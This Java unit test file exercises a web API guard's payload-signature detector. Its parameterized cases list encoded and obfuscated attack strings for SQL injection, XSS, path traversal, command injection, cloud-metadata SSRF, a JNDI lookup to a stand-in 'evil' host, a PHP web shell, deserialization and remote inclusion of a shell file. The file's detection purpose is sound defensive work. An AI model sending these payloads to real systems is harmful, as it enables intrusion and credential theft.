package io.apiguard.common.inspect;

import static io.apiguard.common.inspect.RequestPartsTest.content;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import io.apiguard.common.events.ApiCallRecord;
import io.apiguard.common.rules.PayloadSignatures;

class InspectedRequestTest {

    private static final List<Signature> SIGNATURES = PayloadSignatures.builtIn();

    @ParameterizedTest(name = "{0} is {1}")
    @CsvSource(
            delimiter = '|',
            value = {
                "q=1%27%20OR%20%271%27%3D%271 | sql-injection",
                "q=%zz1%27%20OR%20%271%27%3D%271 | sql-injection",
                "q=1%252527%252520OR%252520%2525271%252527%25253D%2525271 | sql-injection",
                "q=1'/**/UnIoN/**/SeLeCt/**/password/**/FROM/**/users | sql-injection",
                "q=%zz%3Cscript%3Ealert(1)%3C/script%3E | xss",
                "q=%25253Csvg%252520onload%25253Dalert(1)%25253E | xss",
                "q=&lt;img src=x onerror=alert(1)&gt; | xss",
                "file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd | path-traversal",
                "file=%u002e%u002e%u002fetc%u002fpasswd | path-traversal",
                "host=%zz8.8.8.8%3Bcat%20/etc/hosts | command-injection",
                "host=8.8.8.8%25257C%25257Cwhoami | command-injection",
                "url=http://169.254.169.254/latest/meta-data/ | ssrf-metadata",
                "url=gopher://127.0.0.1:6379/_SET | ssrf",
                "x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil%2Fa%7D | jndi-lookup",
                "name={{7*7}} | template-injection",
                "expr=${T(java.lang.Runtime).getRuntime().exec('id')} | template-injection",
                "x=<?php system($_GET['c']); ?> | php-injection",
                "a[__proto__][admin]=1 | nodejs-injection",
                "obj=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA | java-deserialization",
                "inc=http://203.0.113.9/shell.txt? | remote-file-inclusion",
            })
    void signaturesSeeThroughTheEvasions(String query, String signatureId) {
        InspectedRequest request = InspectedRequest.of("/search", query, RequestContent.NONE);

        assertThat(request.findAll(SIGNATURES))
                .extracting(InspectedRequest.Hit::signatureId)
                .contains(signatureId);
    }

    @Test
    void aHitNamesItsLocationAndABoundedExcerpt() {
        // Given
        String body = "{\"items\":[{\"note\":\"" + "'; DROP TABLE users; --" + "x".repeat(200) + "\"}]}";
        InspectedRequest request = InspectedRequest.of("/orders", null, content(Map.of(), "application/json", body));

        // When
        InspectedRequest.Hit hit = request.find(PayloadSignatures.signature("sql-injection", Map.of()));
        ApiCallRecord.Violation violation = hit.violation();

        // Then
        assertThat(hit.location()).isEqualTo("body/items/0/note");
        assertThat(hit.excerpt()).hasSizeLessThanOrEqualTo(InspectedRequest.MAX_EXCERPT);
        assertThat(violation.kind()).isEqualTo("signature");
        assertThat(violation.id()).isEqualTo("sql-injection");
        assertThat(violation.location()).isEqualTo("body/items/0/note");
        assertThat(violation.reason()).startsWith("sql-injection in body/items/0/note: ");
    }

    @Test
    void theMalformedBodyPseudoSignatureMatchesABodyThatDoesNotParse() {
        Signature malformed = PayloadSignatures.signature(RequestParts.MALFORMED_BODY, Map.of());
        InspectedRequest broken = InspectedRequest.of("/", null, content(Map.of(), "application/json", "{\"a\":"));
        InspectedRequest fine = InspectedRequest.of("/", null, content(Map.of(), "application/json", "{}"));

        assertThat(broken.find(malformed).location()).isEqualTo("body");
        assertThat(broken.malformedBodyViolation().id()).isEqualTo("malformed-body");
        assertThat(fine.find(malformed)).isNull();
        assertThat(fine.malformedBodyViolation()).isNull();
    }

    @Test
    void aCustomSignatureAlsoSeesTheRawValue() {
        Signature custom = PayloadSignatures.signature("encoded-quote", Map.of("encoded-quote", "%27"));

        InspectedRequest request = InspectedRequest.of("/", "q=%27", RequestContent.NONE);

        assertThat(request.find(custom).location()).isEqualTo("query.q");
    }

    @Test
    void noExpressionBacktracksForLongOnAdversarialInput() {
        // Given: 64 KB values built from the characters the expressions repeat, with almost-matches throughout
        List<String> adversarial = List.of(
                "'".repeat(2_000) + " or ".repeat(3_000) + "a".repeat(20_000),
                "<a ".repeat(10_000) + "on".repeat(10_000),
                "${".repeat(15_000) + "{{".repeat(10_000),
                "../".repeat(2_000) + "/[a]".repeat(5_000) + "; ".repeat(10_000),
                "select ".repeat(5_000) + "from ".repeat(5_000),
                "%25".repeat(20_000) + "&#".repeat(5_000),
                "$a(".repeat(10_000) + "while(".repeat(5_000));

        // When / Then: every signature over every value within a generous bound on this shared 2-core machine
        long started = System.nanoTime();
        for (String value : adversarial) {
            InspectedRequest request = InspectedRequest.of(
                    "/", null, content(Map.of(), "text/plain", value.substring(0, Math.min(value.length(), 65_536))));
            request.findAll(SIGNATURES);
        }
        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(5));
    }
}
